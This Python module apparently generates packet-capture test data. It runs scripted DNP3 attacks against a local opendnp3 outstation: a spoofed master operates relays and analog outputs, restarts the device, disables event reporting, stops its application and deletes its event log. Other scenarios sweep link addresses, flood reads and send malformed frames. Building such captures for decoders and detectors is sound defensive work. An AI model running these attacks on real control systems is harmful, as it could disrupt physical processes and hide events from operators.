"""Record DNP3 attack captures against a real opendnp3 outstation.

Run from the repository root (as root: dumpcap needs capture rights)::

    python -m pcaps.record.dnp3_attacks [--out-dir pcaps/dnp3] [--only NAME ...]

The victim is the outstation of :mod:`pcaps.record.dnp3` (link address 10
on 127.0.0.1:20000), started fresh for every capture. The attacker is a
host at 127.0.0.66: an opendnp3 master (it spoofs the plant master's link
address 1, which the outstation trusts) where the stack can send the
request, and hand-built frames on a plain socket where it cannot (damaged
frames). Each scenario checks what the outstation did, so a change in the
stack's behaviour fails the recording instead of silently changing the
captures.
"""

from __future__ import annotations

import socket
import struct
import time
from collections.abc import Callable, Sequence
from pathlib import Path

import opendnp3 as dnp3

from pcaps.record.capture import record
from pcaps.record.dnp3 import (
    BPF_FILTER,
    HOST,
    MASTER_ADDRESS,
    OUTSTATION_ADDRESS,
    PORT,
    Master,
    UnexpectedResponse,
    recorder_cli,
    settle,
    stations,
)

ATTACKER = "127.0.0.66"
FLOOD_REQUESTS = 200
SWEEP_ADDRESSES = tuple(range(1, 13))


# -- hand-built frames (IEEE 1815-2012 §9.2) --------------------------------------


def crc(data: bytes) -> bytes:
    """CRC-16/DNP of ``data``, little-endian as on the wire (bit by bit: an
    implementation independent of the decoder's table-driven one)."""
    value = 0
    for octet in data:
        value ^= octet
        for _ in range(8):
            value = (value >> 1) ^ 0xA6BC if value & 1 else value >> 1
    return struct.pack("<H", ~value & 0xFFFF)


def frame(user: bytes, *, ctl: int = 0xC4, dst: int = OUTSTATION_ADDRESS,
          src: int = MASTER_ADDRESS, length: int | None = None) -> bytes:
    """A link frame: header with its CRC, user data in CRC'd 16-octet blocks."""
    header = struct.pack("<BBBBHH", 0x05, 0x64, 5 + len(user) if length is None else length,
                         ctl, dst, src)
    blocks = b"".join(user[i : i + 16] + crc(user[i : i + 16]) for i in range(0, len(user), 16))
    return header + crc(header) + blocks


def request(seq: int, function: int, objects: bytes = b"", **link: int) -> bytes:
    """One application request in one transport segment (FIR, FIN)."""
    return frame(bytes([0xC0 | seq & 0x3F, 0xC0 | seq & 0x0F, function]) + objects, **link)


READ_CLASS_0 = bytes([60, 1, 0x06])


class RawMaster:
    """A plain TCP connection from the attacker's address."""

    def __init__(self) -> None:
        self.sock = socket.create_connection((HOST, PORT), timeout=2.0,
                                             source_address=(ATTACKER, 0))

    def send(self, data: bytes, wait: float = 0.3) -> bytes:
        """Send ``data`` as one segment; what comes back within ``wait``."""
        self.sock.sendall(data)
        deadline = time.monotonic() + wait
        received = b""
        while (left := deadline - time.monotonic()) > 0:
            self.sock.settimeout(left)
            try:
                chunk = self.sock.recv(4096)
            except TimeoutError:
                break
            if not chunk:
                break
            received += chunk
        return received

    def close(self) -> None:
        self.sock.close()


# -- scenarios ----------------------------------------------------------------------


def _attacker(manager: object) -> Master:
    master = Master(manager, ATTACKER, name="attacker")
    settle(1.5)
    return master


def direct_operate(path: Path) -> None:
    """Direct operate of a relay (CROB latch on, point 2), of an analog
    output (float 999.5, point 1), and direct operate without
    acknowledgement of a relay (CROB trip pulse, point 3)."""
    crob = dnp3.ControlRelayOutputBlock
    with stations() as (manager, outstation), record(path, BPF_FILTER):
        master = _attacker(manager)
        stack = master.stack
        master.expect_success(lambda cb: stack.DirectOperate(
            crob(dnp3.OperationType.LATCH_ON), 2, cb), "direct operate latch on")
        master.expect_success(lambda cb: stack.DirectOperate(
            dnp3.AnalogOutputFloat32(999.5), 1, cb), "direct operate analog")
        no_ack = bytes([12, 1, 0x28]) + struct.pack("<HHBBIIB", 1, 3, 0x81, 1, 1000, 0, 0)
        stack.PerformFunction("direct operate no ack", dnp3.FunctionCode.DIRECT_OPERATE_NR,
                              [dnp3.Header.Raw(no_ack)])
        settle(0.5)
        master.shutdown()
        settle(0.3)
    operated = [(kind, index) for kind, index, _ in outstation.commands.operated]
    if operated != [("ControlRelayOutputBlock", 2), ("AnalogOutputFloat32", 1),
                    ("ControlRelayOutputBlock", 3)]:
        raise UnexpectedResponse(f"operated: {outstation.commands.operated}")


def select_operate(path: Path) -> None:
    """Select-before-operate of a relay (CROB pulse on, point 0) and of an
    analog output (32-bit 123456, point 0)."""
    crob = dnp3.ControlRelayOutputBlock
    with stations() as (manager, outstation), record(path, BPF_FILTER):
        master = _attacker(manager)
        stack = master.stack
        master.expect_success(lambda cb: stack.SelectAndOperate(
            crob(dnp3.OperationType.PULSE_ON, dnp3.TripCloseCode.NUL, False, 3, 1000, 500), 0,
            cb), "select/operate pulse on")
        master.expect_success(lambda cb: stack.SelectAndOperate(
            dnp3.AnalogOutputInt32(123456), 0, cb), "select/operate analog")
        settle(0.3)
        master.shutdown()
        settle(0.3)
    if len(outstation.commands.selected) != 2 or len(outstation.commands.operated) != 2:
        raise UnexpectedResponse(f"selected {outstation.commands.selected}, "
                                 f"operated {outstation.commands.operated}")


def restart(path: Path) -> None:
    """Cold restart, then warm restart."""
    with stations() as (manager, outstation), record(path, BPF_FILTER):
        master = _attacker(manager)
        stack = master.stack
        master.wait(lambda cb: stack.Restart(dnp3.RestartType.COLD, cb), "cold restart")
        settle(0.5)
        master.wait(lambda cb: stack.Restart(dnp3.RestartType.WARM, cb), "warm restart")
        settle(0.3)
        master.shutdown()
        settle(0.3)
    if outstation.application.restarts != ["cold", "warm"]:
        raise UnexpectedResponse(f"restarts: {outstation.application.restarts}")


def disable_unsolicited(path: Path) -> None:
    """Disable unsolicited responses of classes 1, 2 and 3: the SCADA master
    no longer hears of events."""
    header = dnp3.Header
    with stations(allow_unsolicited=True) as (manager, _outstation), record(path, BPF_FILTER):
        master = _attacker(manager)
        master.stack.PerformFunction("disable unsolicited", dnp3.FunctionCode.DISABLE_UNSOLICITED,
                                     [header.AllObjects(60, 2), header.AllObjects(60, 3),
                                      header.AllObjects(60, 4)])
        settle(0.5)
        master.shutdown()
        settle(0.3)


def stop_application(path: Path) -> None:
    """Stop application, naming the application ``plc-logic`` (g90v1,
    free-format qualifier), then initialize data."""
    name = b"plc-logic"
    application = bytes([90, 1, 0x5B, 1]) + struct.pack("<H", len(name)) + name
    with stations() as (manager, _outstation), record(path, BPF_FILTER):
        master = _attacker(manager)
        master.stack.PerformFunction("stop application", dnp3.FunctionCode.STOP_APPLICATION,
                                     [dnp3.Header.Raw(application)])
        settle(0.5)
        master.stack.PerformFunction("initialize data", dnp3.FunctionCode.INITIALIZE_DATA, [])
        settle(0.5)
        master.shutdown()
        settle(0.3)


def file_delete(path: Path) -> None:
    """Reads the outstation's settings file (open, read, close), then
    deletes its event log."""
    with stations() as (manager, outstation), record(path, BPF_FILTER):
        master = _attacker(manager)
        stack = master.stack
        master.wait(lambda cb: stack.ReadFile("/config/settings.xml", cb), "read file")
        settle(0.3)
        master.wait(lambda cb: stack.DeleteFile("/logs/events.log", cb), "delete file")
        settle(0.3)
        master.shutdown()
        settle(0.3)
    if outstation.files.deleted != ["/logs/events.log"] or \
            "/config/settings.xml" not in outstation.files.opened:
        raise UnexpectedResponse(f"opened {outstation.files.opened}, "
                                 f"deleted {outstation.files.deleted}")


def address_sweep(path: Path) -> None:
    """Integrity polls to link addresses 1..12 over one connection: only
    address 10 answers."""
    with stations() as (manager, _outstation), record(path, BPF_FILTER):
        master = Master(manager, ATTACKER, outstations=SWEEP_ADDRESSES, response_timeout=0.2,
                        name="sweeper")
        deadline = time.monotonic() + 10
        while not master.measurements.counts.get("Analog") and time.monotonic() < deadline:
            time.sleep(0.2)
        settle(1.0)
        master.shutdown()
        settle(0.3)
    if master.measurements.counts.get("Analog", 0) == 0:
        raise UnexpectedResponse("address 10 did not answer the sweep")


def flood(path: Path) -> None:
    """200 reads of one analog input, back to back."""
    with stations() as (manager, _outstation), record(path, BPF_FILTER):
        master = _attacker(manager)
        for _ in range(FLOOD_REQUESTS):
            master.stack.Scan([dnp3.Header.Range8(30, 1, 0, 0)], master.measurements)
        settle(1.5)
        master.shutdown()
        settle(0.3)


def malformed(path: Path) -> None:
    """Damaged frames on one connection, each in its own segment, between
    two good reads: a wrong header CRC, a wrong data block CRC, a length
    below 5, an unknown link function, an unknown application function, an
    object whose data is cut short, a reserved qualifier; then octets that
    are no frame at all."""
    with stations() as (_manager, _outstation), record(path, BPF_FILTER):
        client = RawMaster()
        try:
            if not client.send(request(0, 1, READ_CLASS_0)):
                raise UnexpectedResponse("no answer to the first read")
            good = request(1, 1, READ_CLASS_0)
            client.send(good[:8] + bytes([good[8] ^ 0xFF]) + good[9:])
            damaged = bytearray(request(2, 1, READ_CLASS_0))
            damaged[-1] ^= 0xFF
            client.send(bytes(damaged))
            short = struct.pack("<BBBBHH", 0x05, 0x64, 3, 0xC4, OUTSTATION_ADDRESS,
                                MASTER_ADDRESS)
            client.send(short + crc(short))
            unknown_link = struct.pack("<BBBBHH", 0x05, 0x64, 5, 0xC7, OUTSTATION_ADDRESS,
                                       MASTER_ADDRESS)
            client.send(unknown_link + crc(unknown_link))
            client.send(request(3, 0x70))
            client.send(request(4, 2, bytes([80, 1, 0x00, 7, 7])))
            client.send(request(5, 1, bytes([30, 1, 0x0C])))
            if not client.send(request(6, 1, READ_CLASS_0), wait=0.5):
                raise UnexpectedResponse("no answer to the last read")
            # Last: after these, Wireshark takes the connection for HTTP.
            client.send(b"GET / HTTP/1.0\r\n\r\n")
        finally:
            client.close()
        settle(0.3)


SCENARIOS: dict[str, Callable[[Path], None]] = {
    "attack-direct-operate": direct_operate,
    "attack-select-operate": select_operate,
    "attack-restart": restart,
    "attack-disable-unsolicited": disable_unsolicited,
    "attack-stop-application": stop_application,
    "attack-file-delete": file_delete,
    "attack-address-sweep": address_sweep,
    "attack-flood": flood,
    "attack-malformed": malformed,
}


def main(argv: Sequence[str] | None = None) -> int:
    return recorder_cli(argv, "python -m pcaps.record.dnp3_attacks",
                        "Record DNP3 attack captures against an opendnp3 outstation.",
                        SCENARIOS)


if __name__ == "__main__":
    raise SystemExit(main())
